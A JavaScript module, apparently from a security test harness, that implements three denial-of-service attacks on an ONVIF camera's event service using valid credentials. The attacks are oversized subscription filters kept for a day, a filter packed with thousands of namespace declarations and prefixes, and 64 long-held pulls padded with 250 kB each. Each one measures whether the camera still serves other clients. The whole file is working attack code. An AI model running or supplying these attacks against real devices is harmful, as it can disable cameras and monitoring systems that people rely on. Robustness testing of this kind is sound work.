// Attacks on the event service by somebody with a login.
import { setTimeout as sleep } from 'node:timers/promises';
import { ask, basic, envelope } from './camera.mjs';

const NAMES =
  'xmlns:tev="http://www.onvif.org/ver10/events/wsdl" xmlns:wsnt="http://docs.oasis-open.org/wsn/b-2" xmlns:tns1="http://www.onvif.org/ver10/topics"';
/** Most that one address may have. */
const PULL_POINTS = 64;
const EVENTS = '/onvif/event_service';

function send(wire, path, body, limitMs) {
  const text = envelope(body);
  wire.sent += Buffer.byteLength(text);
  return ask(path, { method: 'POST', headers: { 'Content-Type': 'application/soap+xml', ...basic() }, body: text, limitMs });
}

function create(wire, filter, limitMs) {
  const content = `<tev:Filter>${filter}</tev:Filter><tev:InitialTerminationTime>PT24H</tev:InitialTerminationTime>`;
  return send(wire, EVENTS, `<tev:CreatePullPointSubscription ${NAMES}>${content}</tev:CreatePullPointSubscription>`, limitMs);
}

const topics = (...expressions) => expressions.map((each) => `<wsnt:TopicExpression>${each}</wsnt:TopicExpression>`).join('');

/** Each with a filter of 120,000 topics, which is kept for a day. */
async function largeFilters({ wire, camera, serves }) {
  const expressions = Array.from({ length: 15 }, (_, k) => `${'a|'.repeat(8190)}${k === 14 ? '//.' : 'a'}`);
  let taken = 0;
  for (let k = 0; k < PULL_POINTS && camera.alive; k++) if ((await create(wire, topics(...expressions), 20_000)).status === 200) taken++;
  return `${taken} taken; another machine meanwhile: ${camera.alive ? await serves() : 'no'}`;
}

/** One request: 24,000 prefixes to be looked up, and 3900 elements that declare others. */
async function manyDeclarations({ wire }) {
  const beside = '<wsnt:TopicExpression xmlns:z="1"/>'.repeat(3900);
  const asked = Array.from({ length: 6 }, () => `${'p:a/'.repeat(4000)}p:a`);
  const filter = `<wsnt:TopicExpression xmlns:p="http://www.onvif.org/ver10/topics"/>${beside}${topics(...asked, '//.')}`;
  const { status, ms, error } = await create(wire, filter, 60_000);
  return `answered after ${(ms / 1000).toFixed(1)} s (${status || error})`;
}

/** Pulls that wait, each with 250 kB that say nothing. */
async function longPulls({ wire, seconds, serves }) {
  const paths = [];
  for (let k = 0; k < PULL_POINTS; k++) {
    const { body } = await create(wire, topics('tns1:Media/ProfileChanged'), 5000);
    paths.push(new URL(/Address[^>]*>([^<]*)/.exec(String(body))[1]).pathname);
  }
  const pull = `<tev:PullMessages ${NAMES}><tev:Timeout>PT${seconds}S</tev:Timeout><tev:MessageLimit>9</tev:MessageLimit><tev:Other>${'"'.repeat(250_000)}</tev:Other></tev:PullMessages>`;
  const pulls = paths.map((path) => send(wire, path, pull, (seconds + 20) * 1000));
  await sleep((seconds * 1000) / 2);
  const during = await serves();
  const taken = (await Promise.all(pulls)).filter(({ status }) => status === 200).length;
  return `${taken} taken; another machine meanwhile: ${during}`;
}

export const EVENT_ATTACKS = {
  'large-filters': { title: '64 event subscriptions with filters of 240 kB', seconds: 20, run: largeFilters },
  declarations: { title: 'One event filter with 4000 declarations and 24000 prefixes', seconds: 10, run: manyDeclarations },
  'long-pulls': { title: '64 pulls that wait, 250 kB each', seconds: 10, run: longPulls },
};
